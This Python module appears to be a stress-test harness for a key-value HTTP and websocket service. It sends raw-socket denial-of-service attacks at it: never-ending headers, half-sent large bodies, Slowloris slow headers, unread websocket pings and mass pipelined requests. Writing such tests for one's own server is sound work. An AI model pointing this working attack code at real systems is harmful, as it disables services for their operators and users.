"""Attacks on raw connections: what is unfinished, unread, or sent slowly. Most need no API key."""

from __future__ import annotations

import base64
import os
import socket
from collections import deque
from collections.abc import Iterator
from contextlib import suppress

_TIMEOUT = 30.0
_CONNECTIONS = 60
_MASK = b"mask"

CLOSED = 0
"""In place of a status: the server closed the connection, or has not answered yet."""


class Wire:
    """A connection on which an attack sends what bytes it likes.

    Args:
        url: The server.
        timeout: Seconds to wait for the server.
    """

    def __init__(self, url: str, timeout: float = _TIMEOUT) -> None:
        host, _, port = url.removeprefix("http://").partition(":")
        self.socket = socket.create_connection((host, int(port)), timeout)

    def send(self, *parts: bytes) -> None:
        """Send bytes; a server that has closed the connection takes none."""
        with suppress(OSError):
            for part in parts:
                self.socket.sendall(part)

    def status(self) -> int:
        """Read the status of a response."""
        try:
            return int(self.socket.recv(4096).split()[1])
        except (OSError, IndexError, ValueError):
            return CLOSED

    def close(self) -> None:
        """Close the connection."""
        self.socket.close()


def _head(method: str, path: str, *lines: str) -> bytes:
    return "\r\n".join((f"{method} {path} HTTP/1.1", "host: localhost", *lines, "", "")).encode()


def _post(api_key: str, *lines: str) -> bytes:
    return _head("POST", "/set", f"x-api-key: {api_key}", "content-type: application/json", *lines)


def endless_heads(url: str, _api_key: str) -> Iterator[int]:
    """Heads of 5 MB that do not end."""
    while True:
        wire = Wire(url)
        wire.send(_head("GET", "/get?key=a")[:-2], b"x: " + b"a" * 5_000_000)
        yield wire.status()
        wire.close()


def half_sent_bodies(url: str, api_key: str) -> Iterator[int]:
    """Bodies of 7.9 MB that stop short of their end, sixty at a time."""
    wires: deque[Wire] = deque()
    while True:
        if len(wires) == _CONNECTIONS:
            wires.popleft().close()
        wire = Wire(url, timeout=0.05)
        wires.append(wire)
        wire.send(_post(api_key, "content-length: 7900000"), b'{"key":"a","value":"')
        wire.send(*[b"a" * 1_000_000] * 7)
        yield wire.status()


def slow_heads(url: str, _api_key: str) -> Iterator[int]:
    """A thousand connections, each with a byte of its head now and then (Slowloris)."""
    head = _head("GET", "/get?key=a", "x-filler: " + "a" * 10_000)
    wires: list[tuple[Wire, Iterator[int]]] = []
    while True:
        if len(wires) < 1000:
            wires.append((Wire(url), iter(range(len(head)))))
        wire, places = wires.pop(0)
        place = next(places, 0)
        wire.send(head[place : place + 1])
        wires.append((wire, places))
        yield CLOSED


def unread_pongs(url: str, api_key: str) -> Iterator[int]:
    """Pings from a peer that reads no pong."""
    ping = b"\x89\xfd" + _MASK + b"p" * 125
    while True:
        wire = Wire(url)
        nonce = base64.b64encode(os.urandom(16)).decode()
        upgrade = ("upgrade: websocket", "connection: upgrade", "sec-websocket-version: 13")
        key = (f"sec-websocket-key: {nonce}", f"x-api-key: {api_key}")
        wire.send(_head("GET", "/ws", *upgrade, *key))
        yield wire.status()
        for _ in range(1000):
            wire.send(ping * 100)
            yield CLOSED
        wire.close()


def pipelined_requests(url: str, api_key: str) -> Iterator[int]:
    """Five thousand requests ahead of the response to the first."""
    body = b'{"key":"a","value":1}'
    requests = _post(api_key, f"content-length: {len(body)}") + body
    while True:
        wire = Wire(url, timeout=1)
        wire.send(requests + _head("GET", "/healthz") * 5000)
        yield wire.status()
        wire.close()
